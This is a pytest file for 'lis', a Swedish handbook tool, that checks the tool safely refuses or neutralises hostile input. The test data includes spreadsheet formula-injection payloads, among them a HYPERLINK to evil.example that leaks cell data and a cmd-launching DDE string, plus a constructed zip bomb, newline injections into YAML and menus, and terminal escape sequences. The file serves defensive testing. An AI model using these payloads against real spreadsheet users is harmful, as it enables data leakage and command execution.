"""Every `lis` command against hostile input: Swedish messages, no tracebacks, nothing half-written.

Most tests call `macros.cli.main` in-process (fast); a few run the installed command or `make`.
"""

from __future__ import annotations

import csv
import fcntl
import io
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.utils.exceptions import IllegalCharacterError

from macros import cli, navcheck, publish, scaffold, sheetfile
from macros.columns import position
from macros.documents import split_front_matter
from macros.loader import load_handbook
from macros.registers import ACTION_COLUMNS, SYSTEM_COLUMNS
from macros.spreadsheet import import_inventory
from macros.swedish import translate
from macros.yamlsource import parse_yaml, read_yaml_file
from macros.yamltext import scalar
from tests.build_helpers import ROOT, build, copy_project
from tests.conftest import empty_inventory, replace_in
from tests.hostile_commands import PAYLOADS

LIS_DATE = "2026-11-28"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the handbook as the current folder, with a fixed build date."""
    root = copy_project(tmp_path / "handbook")
    monkeypatch.chdir(root)
    monkeypatch.setenv("LIS_DATE", LIS_DATE)
    return root


def lis(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run `lis ARGS` in-process; exit status, stdout, stderr."""
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under `root` (except caches) with its content: compare before and after a command."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and "__pycache__" not in p.parts and p.name != ".lis-bygg.lock"}


def exported_rows(root: Path) -> list[list[str]]:
    with (root / "export/systemforteckning.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


# --- 1. Formula injection and control characters in exports -------------------------------------

HOSTILE_CELLS = {
    "namn": '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
    "leverantör": "+1+cmd|' /C calc'!A0",
    "systemägare": "-2+3",
    "syfte": "@SUM(1+1)",
}


def _poison_first_system(root: Path) -> None:
    path = root / "data/system.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("\n  - id: ") + 1  # whichever system comes first
    end = text.index("\n  - id:", start + 1)
    entry = text[start:end]
    for key, value in HOSTILE_CELLS.items():
        entry = re.sub(rf"^    {key}: .*$", f"    {key}: '{value.replace(chr(39), chr(39) * 2)}'", entry,
                       count=1, flags=re.M)
    path.write_text(text[:start] + entry + text[end:], encoding="utf-8")


@pytest.mark.process  # lis export stamps the handbook version from git
def test_export_writes_formula_like_text_as_text(project, capsys):
    _poison_first_system(project)
    plan = project / "data/atgarder.yaml"
    plan.write_text(re.sub(r"^    område: .*$", r'    område: "\\t=1+1 \\v och \\0"',
                           plan.read_text(encoding="utf-8"), count=1, flags=re.M), encoding="utf-8")
    code, out, err = lis(capsys, "export")
    assert code == 0, err
    sheet = load_workbook(project / "export/systemforteckning.xlsx").active
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    assert row["Namn"].value == HOSTILE_CELLS["namn"]
    for header in ("Namn", "Leverantör", "Systemägare", "Syfte"):
        assert row[header].data_type == "s" and row[header].quotePrefix, header
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
    assert row["Id"].quotePrefix is False  # ordinary text is left alone
    csv_row = dict(zip(headers, exported_rows(project)[1], strict=True))
    assert [csv_row[h] for h in ("Namn", "Syfte", "Förvaltningsobjekt", "Systemägare", "Leverantör")] == [
        "'" + HOSTILE_CELLS["namn"], "'@SUM(1+1)", "individ-och-familj", "'-2+3", "'+1+cmd|' /C calc'!A0"]
    plan = load_workbook(project / "export/handlingsplan.xlsx").active
    area = plan.cell(2, position(ACTION_COLUMNS, "Område"))
    assert area.value == "=1+1 \n och " and area.data_type == "s" and area.quotePrefix


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_neutralised_cells_come_back_unchanged_on_import(project, capsys, suffix):
    _poison_first_system(project)
    replace_in(project / "data/system.yaml", "    namn: Dokumentationsstöd öppenvård\n",
               "    namn: \"'=apostrof först\"\n")
    original = load_handbook(project / "data").systems
    assert lis(capsys, "export")[0] == 0
    empty_inventory(project / "data")
    code, out, err = lis(capsys, "import", f"export/systemforteckning.{suffix}")
    assert code == 0, err
    assert load_handbook(project / "data").systems == original


@pytest.mark.process  # lis export stamps the handbook version from git
def test_an_imported_formula_text_is_exported_as_text(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    book = load_workbook(project / "export/systemforteckning.xlsx")
    new = {"Id": "ny-lank", "Namn": '=HYPERLINK("http://evil.example/","Klicka")', "Syfte": "Syfte.",
           "Förvaltningsobjekt": "ekonomi", "Systemägare": "Chef", "Leverantör": "AB", "Stadsgemensamt": "nej",
           "Personuppgifter": "inga", "Samhällsviktig": "nej", "PUB-avtal": "finns",
           "Konsekvensbedömning krävs": "nej"}
    for header, value in new.items():
        book.active.cell(32, position(SYSTEM_COLUMNS, header), value)
    name = f"{get_column_letter(position(SYSTEM_COLUMNS, 'Namn'))}32"
    book.active[name].data_type = "s"  # a text cell, as a hostile sender would make it
    source = tmp_path / "in.xlsx"
    book.save(source)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(project / "data").systems[-1].name == '=HYPERLINK("http://evil.example/","Klicka")'
    assert lis(capsys, "export", "--mapp", "ut2")[0] == 0
    cell = load_workbook(project / "ut2/systemforteckning.xlsx").active[name]
    assert cell.data_type == "s" and cell.quotePrefix


# --- 2. Import: files people really have ----------------------------------------------------------


def _rows_file(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ";") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def _new_row(rows: list[list[str]], system_id: str, name: str) -> list[str]:
    row = list(rows[1])
    row[0], row[1] = system_id, name
    return row


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig"])
def test_import_reads_csv_as_swedish_excel_saves_it(project, capsys, tmp_path, encoding):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "excel.csv", [rows[0], _new_row(rows, "nytt-ao", "Åtgärdsöversikt")], encoding)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert out == "Importerade excel.csv: 1 nya, 0 ersatta och 0 oförändrade system.\n"
    assert load_handbook(project / "data").systems[-1].name == "Åtgärdsöversikt"


@pytest.mark.parametrize(("name", "content", "message"), [
    ("fel.xlsx", b"inte en zip", "Fel: fel.xlsx är ingen Excel-fil (.xlsx), fast namnet slutar på .xlsx"),
    ("slump.csv", bytes(range(256)) * 4, "Fel: slump.csv är varken UTF-8 eller Windows-1252 (Excel)"),
    ("tom.csv", b"", "  - rad 1: filen är tom"),
    ("en-kolumn.csv", b"Id\nx\n", '  - rad 2, kolumn Namn (finns inte i filen): fältet saknas men måste finnas'),
    ("utan-id.csv", b"Namn;Syfte\nX;Y\n", '  - rad 1: kolumnen "Id" saknas; rubrikerna ska vara: Id, Namn'),
    ("finns-inte.xlsx", None, "Fel: filen "),
    ("mapp.csv", "dir", "Fel: mapp.csv är en mapp, inte en fil"),
    ("fil.txt", b"Id\n", "Fel: fil.txt: filen måste sluta på .xlsx eller .csv"),
])
def test_import_refuses_unreadable_files_in_swedish(project, capsys, tmp_path, name, content, message):
    source = tmp_path / name
    if content == "dir":
        source.mkdir()
    elif content is not None:
        source.write_bytes(content)
    before = snapshot(project)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 1 and out == ""
    assert message in err
    assert "Traceback" not in err
    assert snapshot(project) == before


def _xlsx_with_sheet_xml(path: Path, sheet_xml_chunks: list[bytes]) -> Path:
    """A minimal workbook whose first sheet's XML is written in chunks (so it can be huge)."""
    base = Workbook()
    base.active["A1"] = "Id"
    template = path.with_suffix(".mall.xlsx")
    base.save(template)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as handle:
                    for chunk in sheet_xml_chunks:
                        handle.write(chunk)
            else:
                target.writestr(info, source.read(info.filename))
    return path


def test_import_refuses_a_zip_bomb_before_unpacking_it(project, capsys, tmp_path):
    head = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>')
    chunk = b"A" * 10_000_000
    bomb = _xlsx_with_sheet_xml(tmp_path / "bomb.xlsx", [head, *[chunk] * 11, b"</t></is></c></row></sheetData></worksheet>"])
    assert bomb.stat().st_size < 1_000_000
    code, _, err = lis(capsys, "import", str(bomb))
    assert code == 1
    assert err.startswith("Fel: bomb.xlsx packas upp till 110 MB; största tillåtna är 100 MB")


def test_import_bounds_cell_length_and_row_count(project, capsys, tmp_path):
    long_cell = _rows_file(tmp_path / "lang.csv", [["Id", "Namn"], ["x", "A" * 10_001]])
    code, _, err = lis(capsys, "import", str(long_cell))
    assert (code, err) == (1, "Fel: lang.csv, rad 2, kolumn 2: cellen har 10001 tecken; högst 10000 är tillåtna\n")
    many = _rows_file(tmp_path / "manga.csv", [["Id"], *[["x"]] * (sheetfile.MAX_ROWS + 1)])
    code, _, err = lis(capsys, "import", str(many))
    assert (code, err) == (1, "Fel: manga.csv har fler än 50000 rader; dela upp filen\n")


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_reads_rows_beyond_a_stale_dimension(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    book = Workbook()
    for row in [rows[0], *(_new_row(rows, f"stale-{i}", f"System {i}") for i in range(3))]:
        book.active.append(row)
    good = tmp_path / "bra.xlsx"
    book.save(good)
    stale = tmp_path / "gammal-storlek.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(stale, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:V2"', data)
                assert count == 1
            target.writestr(info, data)
    code, out, err = lis(capsys, "import", str(stale))
    assert code == 0, err
    assert out.startswith("Importerade gammal-storlek.xlsx: 3 nya")


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.sweep
def test_import_time_grows_linearly(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    hb = load_handbook(project / "data")

    def seconds(count: int) -> float:
        source = _rows_file(tmp_path / f"{count}.csv",
                            [rows[0], *(_new_row(rows, f"s-{i}", f"System {i}") for i in range(count))])
        started = time.process_time()  # this process's CPU time: steadier on a loaded machine
        _, summary = import_inventory(project / "data", hb, source, replace=False)
        assert len(summary) == count
        return time.process_time() - started

    small = min(seconds(2_000) for _ in range(2))
    large = min(seconds(20_000) for _ in range(2))
    # Linear: about 10 times as long. The old quadratic append took about 50 times as long (49 s).
    assert large < 25 * small and large < 60


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_runs_the_personal_number_guard(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    row = _new_row(rows, "pnr", "Kontakt 900101-1239")
    source = _rows_file(tmp_path / "pnr.csv", [rows[0], row])
    before = snapshot(project)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert ("  - rad 2, kolumn 2 (Namn): 900101-1239 ser ut som ett personnummer eller samordningsnummer; "
            "personuppgifter får inte finnas i handboken") in err.splitlines()
    assert snapshot(project) == before


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("name", ["1_000", "0b101", "0x1F", "1.5e+3", "Ja", "null", "~", ".inf", "12:30",
                                  "Foo: bar # baz", "*alias", "- punkt", "rad\u2028två", "tab\there"])
@pytest.mark.sweep
def test_import_keeps_number_like_names_as_text(project, capsys, tmp_path, name):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "namn.csv", [rows[0], _new_row(rows, "nummer", name)])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(project / "data").systems[-1].name == name


def test_import_names_the_missing_id_column_even_with_unknown_headers(project, capsys, tmp_path):
    source = _rows_file(tmp_path / "fel.csv", [["Namn", "Anteckning"], ["X", "Y"]])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    lines = err.splitlines()
    assert lines[1].startswith("  - rad 1: okända rubriker: Anteckning; rubrikerna ska vara: Id, Namn")
    assert lines[2].startswith('  - rad 1: kolumnen "Id" saknas')


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_into_a_read_only_inventory_says_so(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "ny.csv", [rows[0], _new_row(rows, "ny", "Ny")])
    (project / "data/system.yaml").chmod(0o444)
    if os.access(project / "data/system.yaml", os.W_OK):
        pytest.skip("körs som root: skrivskyddet gäller inte")
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert err.startswith("Fel: kan inte skriva data/system.yaml: behörighet saknas")
    assert "Traceback" not in err


# --- 3. Export and PDF never overwrite -------------------------------------------------------------


@pytest.mark.process  # lis export stamps the handbook version from git
def test_export_refuses_to_overwrite_without_ersatt(project, capsys):
    assert lis(capsys, "export")[0] == 0
    (project / "export/systemforteckning.csv").write_text("min egen fil", encoding="utf-8")
    before = snapshot(project)
    code, _, err = lis(capsys, "export")
    assert code == 1
    assert "export/systemforteckning.csv" in err and "lägg till --ersatt. Ingenting har skrivits." in err
    assert snapshot(project) == before
    code, out, _ = lis(capsys, "export", "--ersatt")
    assert code == 0 and out.startswith("Skrev export/systemforteckning.xlsx")
    assert (project / "export/systemforteckning.csv").read_text(encoding="utf-8-sig").startswith("Id;Namn")


@pytest.mark.parametrize(("folder", "message"), [
    ("/dev/null/x", "Fel: /dev/null finns men är ingen mapp; ingenting har skrivits"),
    ("fil", "finns men är ingen mapp; ingenting har skrivits"),
    ("/proc/export", "Fel: kan inte skapa mappen /proc/export: "),
])
def test_export_to_an_impossible_folder_says_so(project, capsys, folder, message):
    (project / "fil").write_text("x", encoding="utf-8")
    before = snapshot(project)
    code, _, err = lis(capsys, "export", "--mapp", folder)
    assert code == 1 and message in err and "Traceback" not in err
    assert snapshot(project) == before


@pytest.mark.parametrize(("args", "message"), [
    (["--ut", "/dev/null/x.pdf"], "Fel: /dev/null finns men är ingen mapp"),
    (["--ut", "finns.pdf"], "finns.pdf finns redan; inget kommando skriver över"),
    (["--ut", "."], "är en mapp; ange en fil"),
])
@pytest.mark.process
def test_pdf_refuses_bad_or_existing_targets_before_building(project, capsys, args, message):
    (project / "finns.pdf").write_bytes(b"%PDF gammal")
    before = snapshot(project)
    started = time.monotonic()
    code, _, err = lis(capsys, "pdf", "2025", *args)
    assert code == 1 and message in err
    assert time.monotonic() - started < 5  # refused before the build
    assert snapshot(project) == before


# --- 4. Scaffolding writes valid YAML or nothing ----------------------------------------------------


@pytest.mark.parametrize("name", ["Ekonomi: ny", "#1 System", "Ja", "[lista]", "{a: 1}", "*alias", "&ankare x",
                                  "!tagg x", "1_000", "'citat", '"citat"', "% procent", "@ snabel", "x # y"])
@pytest.mark.sweep
def test_nytt_system_writes_any_name_as_text(project, capsys, name):
    code, _, err = lis(capsys, "nytt-system", "nytt-x", "--namn", name, "--objekt", "ekonomi")
    assert code == 0, err
    data, problems = read_yaml_file(project / "data/system.yaml", "system.yaml")
    assert problems == []
    assert data["system"][-1]["namn"] == name and data["system"][-1]["syfte"] == "ÄNDRA"
    code, _, err = lis(capsys, "kontrollera")
    assert code == 1 and err.count("fältet är inte ifyllt") == 8  # only the fields left to fill in


@pytest.mark.parametrize(("flag", "value", "message"), [
    ("--namn", "Rad\n    leverantör: Ond AB", "Fel: --namn får inte innehålla radbrytningar, tabbar eller andra "
                                               "styrtecken; ingenting har ändrats"),
    ("--namn", "a\u2028b", "Fel: --namn får inte innehålla radbrytningar"),
    ("--namn", "", "Fel: --namn får inte vara tom; ingenting har ändrats"),
    ("--namn", "   ", "Fel: --namn får inte vara tom"),
])
def test_nytt_system_refuses_line_breaks_and_empty_names(project, capsys, flag, value, message):
    before = snapshot(project)
    code, _, err = lis(capsys, "nytt-system", "nytt-x", flag, value, "--objekt", "ekonomi")
    assert code == 1 and err.startswith(message)
    assert snapshot(project) == before


def test_scaffolding_fills_empty_lists(project, capsys):
    system_yaml = project / "data/system.yaml"
    empty_inventory(project / "data")
    assert lis(capsys, "nytt-system", "forsta", "--namn", "Första", "--objekt", "ekonomi")[0] == 0
    data, problems = read_yaml_file(system_yaml, "system.yaml")
    assert problems == [] and [s["id"] for s in data["system"]] == ["forsta"]
    reviews = project / "data/genomgangar.yaml"
    reviews.write_text(reviews.read_text(encoding="utf-8").split("genomgångar:\n")[0] + "genomgångar: []\n",
                       encoding="utf-8")
    system_yaml.write_text(system_yaml.read_text(encoding="utf-8").split("system:\n")[0] + "system: []\n",
                           encoding="utf-8")
    for year in ("2025", "2026"):
        (project / f"docs/ledningens-genomgang/{year}.md").unlink()
        replace_in(project / "mkdocs.yml", f"      - ledningens-genomgang/{year}.md\n", "")
    code, _, err = lis(capsys, "ny-genomgang", "2026")
    assert code == 0, err
    data, problems = read_yaml_file(reviews, "genomgangar.yaml")
    assert problems == [] and data["genomgångar"] == [{"år": 2026, "status": "pågår"}]
    assert "      - ledningens-genomgang/2026.md\n" in (project / "mkdocs.yml").read_text(encoding="utf-8")


@pytest.mark.parametrize("title", ["Kontinuitet: plan", "#Hemlig", "{{ 7*7 }}", "{% if x %}", "- punkt",
                                   "Ja", "[lista]", "*alias", "Plan & <b>fet</b>"])
@pytest.mark.process
def test_ny_rutin_writes_any_title_safely(project, capsys, title):
    code, _, err = lis(capsys, "ny-rutin", "ny", "--titel", title)
    assert code == 0, err
    page = (project / "docs/rutiner/ny.md").read_text(encoding="utf-8")
    front, line = split_front_matter(page)
    meta, problems = parse_yaml(front or "", "ny.md", line)
    assert problems == [] and meta["title"] == title
    body = page.split("---", 2)[2]
    assert "{{" not in body and "{%" not in body and "{#" not in body
    assert (title, "rutiner/ny.md") in navcheck.nav_entries(project)
    assert navcheck.check_mkdocs_yml(project) == []
    assert lis(capsys, "kontrollera")[0] == 0


def test_ny_rutin_refuses_a_menu_injection(project, capsys):
    before = snapshot(project)
    code, _, err = lis(capsys, "ny-rutin", "ny", "--titel", "Rad\n  - Ond: https://evil.example")
    assert code == 1 and err.startswith("Fel: --titel får inte innehålla radbrytningar")
    assert snapshot(project) == before


@pytest.mark.parametrize("year", ["3000", "-5", "0", "1999", "2028"])
def test_ny_genomgang_refuses_unreasonable_years(project, capsys, year):
    before = snapshot(project)
    code, _, err = lis(capsys, "ny-genomgang", "--", year)
    assert code == 1
    assert err == (f"Fel: {year} är inget rimligt år för en ny genomgång; tillåtet är 2025–2027 (från den tidigaste "
                   "genomgången i data/genomgangar.yaml till året efter dagens datum). Ingenting har ändrats.\n")
    assert snapshot(project) == before


def test_a_failed_check_after_writing_rolls_everything_back(project, capsys, monkeypatch):
    monkeypatch.setattr(scaffold.navcheck, "nav_entries", lambda root: [])  # as if the menu line were lost
    before = snapshot(project)
    code, _, err = lis(capsys, "ny-genomgang", "2027")
    assert code == 1
    assert err == "Fel: kontrollen efter skrivningen misslyckades (menyn i mkdocs.yml); ändringen är ångrad\n"
    assert snapshot(project) == before


def menu_line(root: Path, text: str) -> int:
    """The line of mkdocs.yml that is `text` (the menu moves as pages are added; the test finds its line)."""
    lines = [n for n, line in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").splitlines(), start=1)
             if line == text.rstrip("\n")]
    assert len(lines) == 1, f"mkdocs.yml: {text!r} on lines {lines}"
    return lines[0]


@pytest.mark.parametrize(("old", "new", "message"), [
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: rutiner/finns-inte.md\n",
     'menyn (nav) pekar på "rutiner/finns-inte.md", som inte finns i docs/'),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: rutiner/pub-avtal.md\n",
     "ett kolon står där det inte får stå"),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - #PUB-avtal: rutiner/pub-avtal.md\n",
     "menyraden pekar inte på någon sida"),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - {{ 7*7 }}: rutiner/pub-avtal.md\n",
     "menyradens rubrik är ingen text"),
])
@pytest.mark.process
def test_kontrollera_checks_mkdocs_yml(project, capsys, old, new, message):
    replace_in(project / "mkdocs.yml", old, new)
    expected = f"  - mkdocs.yml, rad {menu_line(project, new)}: {message}"
    code, _, err = lis(capsys, "kontrollera")
    assert code == 1
    assert expected in err.splitlines() or any(line.startswith(expected) for line in err.splitlines())


# --- 5. Publishing ----------------------------------------------------------------------------------


def _fake_mkdocs(version: str):
    def build(root: Path, site: Path) -> None:
        site.mkdir(parents=True, exist_ok=True)
        (site / "index.html").write_text(f"<html><body>{version}</body></html>", encoding="utf-8")
        (site / version).mkdir()
        (site / version / "index.html").write_text('<a href="../index.html">start</a>', encoding="utf-8")
    return build


def test_bygg_survives_leftovers_and_reports_what_it_cannot_delete(project, capsys, monkeypatch):
    (project / ".site-nytt").mkdir()
    (project / ".site-gammalt" / "x").mkdir(parents=True)  # the old fixed names, not empty
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    code, out, err = lis(capsys, "bygg")
    assert (code, out) == (0, "Byggde 2 sidor till site/ (länkarna är kontrollerade).\n"), err
    assert not (project / ".site-nytt").exists() and not (project / ".site-gammalt").exists()
    real_rmtree = shutil.rmtree

    def stubborn(path, *args, **kwargs):
        if Path(path).name.startswith(".site-gammalt"):  # as if a root-owned file were inside
            error = PermissionError(13, "Permission denied", str(path))
            handler = kwargs.get("onexc") or kwargs.get("onerror")
            handler(os.rmdir, str(path), error if "onexc" in kwargs else (PermissionError, error, None))
            return
        real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(publish.shutil, "rmtree", stubborn)
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v2"))
    code, out, err = lis(capsys, "bygg")
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == "Byggde 2 sidor till site/ (länkarna är kontrollerade)."
    assert re.fullmatch(r"Varning: .*/\.site-gammalt-\w+ kunde inte tas bort \(behörighet saknas .*\); ta bort den "
                        r"för hand\. Den stör inte kommande byggen\.", lines[1])
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v3"))
    code, out, err = lis(capsys, "bygg")  # the undeletable folder does not stop the next build
    assert code == 0, err
    assert (project / "site/v3/index.html").exists() and not (project / "site/v2").exists()


def test_bygg_updates_the_folder_a_site_link_points_to(project, capsys, monkeypatch, tmp_path):
    www = tmp_path / "www"
    www.mkdir()
    (www / "gammal.html").write_text("gammal", encoding="utf-8")
    (project / "site").symlink_to(www)
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    for _ in range(2):
        code, out, err = lis(capsys, "bygg")
        assert code == 0, err
        assert out == f"Byggde 2 sidor till site/ (länk till {www}) (länkarna är kontrollerade).\n"
    assert (project / "site").is_symlink() and (project / "site").resolve() == www
    assert sorted(p.name for p in www.iterdir()) == ["index.html", "v1"]
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".site")) == []


def test_bygg_refuses_while_another_build_runs(project, capsys, monkeypatch):
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    assert lis(capsys, "bygg")[0] == 0
    before = snapshot(project)
    with (project / publish.LOCK_NAME).open("a") as other:
        fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
        code, _, err = lis(capsys, "bygg")
    assert (code, err) == (1, "Fel: ett annat bygge pågår i den här mappen; vänta tills det är klart och försök "
                              "igen. Ingenting har ändrats.\n")
    assert snapshot(project) == before


@pytest.mark.build
def test_two_real_builds_at_once(project):
    lis_command = [str(Path(sys.executable).parent / "lis"), "bygg"]
    env = {**os.environ, "LIS_DATE": LIS_DATE, "NO_MKDOCS_2_WARNING": "1"}
    first = subprocess.Popen(lis_command, cwd=project, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True)
    try:
        deadline = time.monotonic() + 60
        while not list(project.glob(".site-nytt-*")) and first.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)  # the first build holds the lock once its own temporary folder exists
        second = subprocess.run(lis_command, cwd=project, env=env, capture_output=True, text=True, timeout=60)
        out, err = first.communicate(timeout=600)
    finally:
        first.kill()
    assert (second.returncode, second.stderr) == (1, "Fel: ett annat bygge pågår i den här mappen; vänta tills "
                                                     "det är klart och försök igen. Ingenting har ändrats.\n")
    assert first.returncode == 0, err
    assert out.startswith("Byggde ") and (project / "site/index.html").exists()
    assert list(project.glob(".site-*")) == []


@pytest.mark.build
def test_bygg_reports_mkdocs_errors_in_swedish(project, capsys):
    heading = "\n## Utbilda ledningen\n"
    replace_in(project / "docs/utbildning.md", heading, "\n[trasig](finns-inte.md) {% if %}\n" + heading)
    code, _, err = lis(capsys, "bygg")
    assert code == 1
    assert "Traceback" not in err
    assert "mallsyntaxen är fel på rad" in err and "ett uttryck saknas (hittade end of statement block)" in err
    assert "Expected an expression" not in err


@pytest.mark.parametrize(("english", "swedish"), [
    ("WARNING -  Doc file 'utbildning.md' contains a link 'finns-inte.md', but the target is not found among "
     "documentation files.",
     'VARNING - sidan docs/utbildning.md länkar till "finns-inte.md", men den sidan eller filen finns inte'),
    ("Config value 'site_url': The URL isn't valid, it should include the http:// (scheme)",
     'mkdocs.yml, inställningen "site_url": adressen är inte giltig; den ska börja med https:// eller http://'),
    ("Config value 'nav': Expected nav item to be a string or dict, got None",
     'mkdocs.yml, inställningen "nav": varje rad i menyn (nav) ska vara en sida eller en rubrik med sidor, men en '
     "rad är tom"),
    ('  in "/srv/lis/mkdocs.yml", line 112, column 24', "  i /srv/lis/mkdocs.yml, rad 112, kolumn 24"),
    ("Aborted with 3 warnings in strict mode!", "Bygget avbröts: 3 varning(ar) i strikt läge."),
    ("Aborted with a configuration error!", "Bygget avbröts: mkdocs.yml innehåller ett fel."),
    ("Expected an expression, got 'end of statement block'", "ett uttryck saknas (hittade end of statement block)"),
])
def test_known_mkdocs_messages_are_translated(english, swedish):
    assert translate(english) == swedish


def test_bygg_checks_the_menu_like_kontrollera(project, capsys):
    replace_in(project / "mkdocs.yml", "      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: x.md\n")
    line = menu_line(project, "      - PUB-avtal: plan: x.md")
    code, _, err = lis(capsys, "bygg")
    assert code == 1
    assert err.splitlines()[1].startswith(f"  - mkdocs.yml, rad {line}: ett kolon står där det inte får stå")
    assert not (project / "site").exists()


def test_make_serve_shows_link_warnings_in_swedish(project):
    heading = "\n## Utbilda ledningen\n"
    replace_in(project / "docs/utbildning.md", heading, "\n[trasig](finns-inte.md)\n" + heading)
    built = build(project)
    assert built.returncode == 1
    assert 'sidan docs/utbildning.md länkar till "finns-inte.md", men den sidan eller filen finns inte' in built.output
    assert "contains a link" not in built.output


# --- 6. Swedish argument errors and one error boundary ----------------------------------------------


@pytest.mark.parametrize(("args", "message"), [
    (["foo"], "lis: fel: argumentet KOMMANDO: okänt val 'foo' (välj bland 'kontrollera', 'bygg',"),
    (["export", "--mapp"], "lis export: fel: argumentet --mapp: ett värde saknas"),
    (["kontrollera", "--x"], "lis: fel: okända argument: --x"),
    (["ny-genomgang", "abc"], "lis ny-genomgang: fel: argumentet ÅR: inget heltal: 'abc'"),
    (["nytt-system", "x"], "lis nytt-system: fel: de här argumenten saknas: --namn, --objekt"),
    ([], "lis: fel: de här argumenten saknas: KOMMANDO"),
])
def test_argument_errors_are_swedish(capsys, args, message):
    code, out, err = lis(capsys, *args)
    assert code == 2 and out == ""
    assert err.startswith("Användning: lis")
    assert message in err.splitlines()[-1]
    for english in ("usage:", "choose from", "expected one argument", "unrecognized arguments", "invalid choice",
                    "required", "error:"):
        assert english not in err


@pytest.mark.parametrize("args", [["nytt-system", "\x1b[31mröd\x1b[0m", "--namn", "N", "--objekt", "ekonomi"],
                                  ["ny-rutin", "x", "--titel", "\x1b]0;titel\x07"],
                                  ["import", "\u202eevil.csv"], ["\x1b[2J"]])
def test_terminal_control_sequences_are_shown_not_obeyed(project, capsys, args):
    code, out, err = lis(capsys, *args)
    assert code in (1, 2)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", out + err)
    assert re.search(r"\\u001b|\\x1b|\\u202e|styrtecken", err)  # shown as text, or refused by name


def test_help_is_swedish(capsys):
    code, out, _ = lis(capsys, "export", "--help")
    assert code == 0
    assert out.startswith("Användning: lis export") and "Flaggor:" in out and "visa den här hjälpen" in out
    assert "options:" not in out and "show this help" not in out


def test_a_bug_shows_as_a_bug_not_as_a_user_error(project, capsys, monkeypatch):
    def broken(root: Path) -> str:
        raise KeyError("intern")

    monkeypatch.setattr(cli, "check", broken)
    code, _, err = lis(capsys, "kontrollera")
    assert code == cli.BUG_EXIT
    assert "Traceback" in err and "KeyError: 'intern'" in err
    assert err.endswith("Fel: detta är ett fel i handboken, inte i dina uppgifter. Rapportera det (med texten ovan) "
                        "till den som förvaltar handboken.\n")


# --- 7. The sweep: hostile input through every documented command ----------------------------------

